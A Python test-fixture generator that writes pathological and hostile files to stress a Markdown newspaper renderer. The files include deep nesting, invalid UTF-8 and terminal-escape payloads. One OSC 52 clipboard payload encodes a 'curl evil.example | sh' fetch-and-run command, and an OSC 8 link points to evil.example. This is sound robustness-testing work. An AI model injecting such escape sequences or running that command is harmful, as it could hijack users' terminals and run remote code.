#!/usr/bin/env python3
"""gen.py: write the hostile corpus into DIR (deterministic, no randomness).

  gen.py DIR        writes every file; prints their names, one a line

Pathological shapes (reliability.md §8 G5, G15): huge lines, deep nesting,
unmatched brackets, combining-mark and zero-width floods, absurd jump
pages, empty and binary files, every kind of invalid UTF-8, a 10 MB issue,
and terminal-escape payloads (CSI, OSC 0/2/8/52, DCS, APC, PM, SOS, 8-bit
C1, bidi controls) in every place of an issue. The files are made at test
time so that no multi-megabyte file is ever committed. Never writes
outside DIR.
"""
import os
import sys

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

# Seed-like newspaper prose, written for this project.
PROSE = [
    "近日，华东某市的一家智能制造企业完成了新一轮生产线改造，"
    "关键工序的自动化率从六成提高到九成以上，产品不良率下降了近一半。",
    "企业负责人介绍，改造中最难的是老设备联网，团队用了三个月时间，"
    "给二十多台服役十年以上的机床加装传感器，打通了数据采集的“最后一米”。",
    "业内专家认为，中小企业数字化转型要避免“一步到位”的思路，"
    "应从痛点最明显的环节入手，小步快跑，用看得见的效益带动后续投入。",
    "据统计，今年前三季度，全省规模以上工业企业研发投入同比增长12.6%，"
    "新增国家级专精特新“小巨人”企业48家，创新主体持续壮大。",
]


def issue_text(target_bytes):
    """A long issue in the seed's shape: masthead, articles, jumps."""
    out = ["# 华夏科技周报\n\nHUAXIA SCIENCE WEEKLY\n\n"
           "华夏科学院主管 华夏科技报社主办 2025年3月3日 星期一 "
           "第9期(总第1201期) 今日8版\n\n### 本期导读\n\n"
           "- 智能制造提速 02版\n- 研发投入增长 03版\n\n"]
    size = len(out[0].encode())
    n = 0
    while size < target_bytes:
        n += 1
        parts = ["## 第%d篇：制造业数字化转型观察\n\n" % n,
                 "▶ 本报记者 周明远\n\n"]
        for i in range(6):
            parts.append(PROSE[(n + i) % len(PROSE)] + "\n\n")
        if n % 3 == 0:
            parts.append("### 小标题：从试点到推广\n\n")
        if n % 5 == 0:
            parts.append("▼▼ 下转第%d版\n\n" % (n % 8 + 1))
        if n % 7 == 0:
            parts.append("图为生产线一角。 新华社发\n\n(林晓/摄)\n\n")
        chunk = "".join(parts)
        out.append(chunk)
        size += len(chunk.encode())
    return "".join(out)


def files():
    """(name, bytes) for every hostile file."""
    f = []

    def add(name, data):
        if isinstance(data, str):
            data = data.encode("utf-8", "surrogatepass")
        f.append((name, data))

    art = "## 标题\n\n▶ 本报记者 李明\n\n"
    # Size and shape.
    add("line-1mb-unbreakable.md", art + "ab12" * (1 << 18) + "\n")
    add("x-100k.md", "x" * 100000)
    # One 9 MB paragraph: the layout's scratch took 205 MB (issue 20).
    add("paragraph-9mb-ascii.md", art + "abcdefg " * (9 << 17) + "\n")
    add("x-100k-cjk-article.md", art + "x" * 100000 + "。\n")
    add("cjk-line-1mb.md", art + "字" * 350000 + "\n")
    add("short-lines-1m.md", art + "字\n" * 1000000)
    add("headings-20k.md", "".join("## 标题%d\n" % i for i in range(20000)))
    add("subheads-20k.md", art + "".join("### 小标题%d\n" % i
                                           for i in range(20000)))
    add("quote-5k-deep.md", "> " * 5000 + "深\n")
    add("quote-5k-lines.md", "".join(">" * i + " 引\n" for i in range(1, 1200)))
    add("list-5k-deep.md", "- " * 5000 + "项\n")
    # Nested 2.5 million deep on one line: md4c took 144 MB (issue 20).
    add("list-5mb-deep.md", art + "- " * 2500000 + "项\n")
    add("quote-5mb-deep.md", art + "> " * 2500000 + "深\n")
    add("list-1k-indented.md", "".join("  " * i + "- 项\n"
                                       for i in range(1000)))
    add("brackets-square-10k.md", art + "[" * 10000 + "\n")
    add("brackets-paren-10k.md", art + "(" * 10000 + "\n")
    add("brackets-cjk-10k.md", art + "《" * 10000 + "\n")
    add("brackets-mixed-10k.md", art + "[(《“（" * 2000 + "\n")
    add("closers-10k.md", art + "，" * 10000 + "\n" + "》" * 10000 + "\n")
    add("emphasis-50k.md", art + "*_" * 25000 + "x\n")
    add("links-10k.md", art + "[a](" * 10000 + "\n")
    add("dashes-ellipses.md", art + "——" * 5000 + "……" * 5000 + "\n")
    add("combining-100k.md", art + "e" + "\u0301" * 100000 + "\n")
    add("combining-many-bases.md", art + ("a" + "\u0300\u0301\u0302" * 10) * 5000 + "\n")
    add("zero-width-100k.md", art + "\u200b\u200c\u200d\u2060\ufeff" * 20000 + "\n")
    add("emoji-flags.md", art + "🇨🇳" * 5000 + "👨‍👩‍👧‍👦" * 2000 + "\n")
    # Jumps to impossible pages.
    add("jump-page0.md", art + "正文。\n\n▼▼ 下转第0版\n\n▲▲ 上接第0版\n")
    add("jump-page-neg5.md", art + "正文。\n\n▼▼ 下转第-5版\n\n(下转第-5版)\n")
    add("jump-page-1e20.md", art + "正文。\n\n▼▼ 下转第100000000000000000000版\n\n"
        "▲▲ 上接第99999999999999999999版\n\ncontinued on page 100000000000000000000\n\n"
        "### 本期导读\n\n- 标题 100000000000000000000版\n")
    add("jump-many.md", "".join("## 文%d\n\n▼▼ 下转第%d版\n\n" % (i, i)
                                for i in range(5000)))
    # Empty and blank.
    add("empty.md", b"")
    add("whitespace-only.md", " \t \n\n\u3000\u3000\n   \r\n\t\n")
    add("newlines-only.md", "\n" * 100000)
    # Invalid UTF-8, every kind.
    add("utf8-overlong.md", art.encode() + b"\xc0\x80 \xc1\xbf \xe0\x80\x80 \xf0\x80\x80\x80 \xe0\x9f\xbf\n")
    add("utf8-surrogates.md", art.encode() + b"\xed\xa0\x80 \xed\xbf\xbf \xed\xa0\xbd\xed\xb8\x80\n")
    add("utf8-beyond-10ffff.md", art.encode() + b"\xf4\x90\x80\x80 \xf5\x80\x80\x80 \xf7\xbf\xbf\xbf \xf8\x88\x80\x80\x80 \xfc\x84\x80\x80\x80\x80\n")
    add("utf8-truncated.md", art.encode() + b"\xe4\xb8 \xf0\x9f\x98 \xe4\n\xe4\xb8")
    add("utf8-stray-continuation.md", art.encode() + b"\x80 \xbf \x80\x80\x80 \x9b2J \x9d0;t\x07\n")
    add("utf8-fe-ff.md", art.encode() + b"\xfe\xff \xff\xfe \xfe\n")
    add("utf8-random-high.md", bytes(range(0x80, 0x100)) * 64)
    # NUL bytes.
    add("nul-inside.md", art.encode() + b"a\x00b\x00c\n")
    add("nul-only.md", b"\x00" * 4096)
    # BOM and line ends.
    add("bom-crlf.md", "\ufeff# 华夏科技周报\r\n\r\n## 文章\r\n\r\n正文第一行\r\n第二行\r\n")
    add("cr-only.md", "## 文章\r\r正文\r覆盖\r")
    # A 10 MB issue.
    add("issue-10mb.md", issue_text(10 * 1024 * 1024))
    # Terminal escapes, in body, headline, byline, jump, contents, masthead.
    payloads = {
        "csi-2j": ESC + "[2J" + ESC + "[H",
        "cursor-up-cr": "好消息" + ESC + "[1A" + "\r" + ESC + "[2K" + "假消息",
        "osc0-title-bel": ESC + "]0;pwned" + BEL,
        "osc2-title-st": ESC + "]2;pwned" + ST,
        "osc8-link": ESC + "]8;;http://evil.example/" + ST + "点这里" + ESC + "]8;;" + ST,
        "osc52-clipboard": ESC + "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + BEL,
        "osc-unterminated": ESC + "]0;" + "x" * 100000,
        "dcs": ESC + "Pq#0;2;0;0;0#0~~@@" + ST + ESC + "P$qm" + ST,
        "apc-kitty": ESC + "_Gf=100,a=T;AAAA" + ST,
        "pm-sos": ESC + "^privacy" + ST + ESC + "Xsos" + ST,
        "trailing-esc": "正文" + ESC,
        "split-esc": "正文" + ESC + "\n[2J",
        "bel-bs-cr": "铃" + BEL + "退格x\by" + "\r回车" + "\x7f删除",
        "c0-all": "".join(chr(c) for c in range(0x20) if c not in (9, 10)),
    }
    for name, p in payloads.items():
        add("esc-%s.md" % name,
            "# 报%s\n\nHERALD%s\n\n主管 2025年1月1日 星期三 第1期%s\n\n"
            "## 标题%s\n\n▶ 本报记者 %s\n\n正文%s正文。\n\n▼▼ 下转第2版%s\n\n"
            "### 本期导读\n\n- 条目%s 02版\n" % ((p,) * 8))
    # 8-bit C1 forms: raw bytes (invalid UTF-8) and as UTF-8 U+0080–U+009F.
    add("c1-raw-8bit.md", art.encode() + b"\x9b2J\x9b31m \x9d0;pwned\x9c \x90q\x9c \x9f\x9e\x85\n")
    add("c1-utf8.md", art + "\u009b2J\u009b31m \u009d0;pwned\u009c \u0090q\u009c \u0085\u0080\u009f\n")
    add("bidi-controls.md", "## abc\u202edcba\u202c\n\n▶ 本报记者 \u2066李\u2069\n\n"
        "正文\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u061c\u200e\u200f结束\n")
    # A hostile file name (the message must name it safely).
    add("name-" + ESC + "]0;pwned" + BEL + "-" + "\u202e" + ".md", b"\x00binary\x00")
    return f


def main():
    if len(sys.argv) != 2:
        sys.stderr.write("usage: gen.py DIR\n")
        return 2
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    for name, data in files():
        path = os.path.join(d.encode(), name.encode("utf-8"))
        with open(path, "wb") as fh:
            fh.write(data)
        sys.stdout.buffer.write(name.encode("utf-8") + b"\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
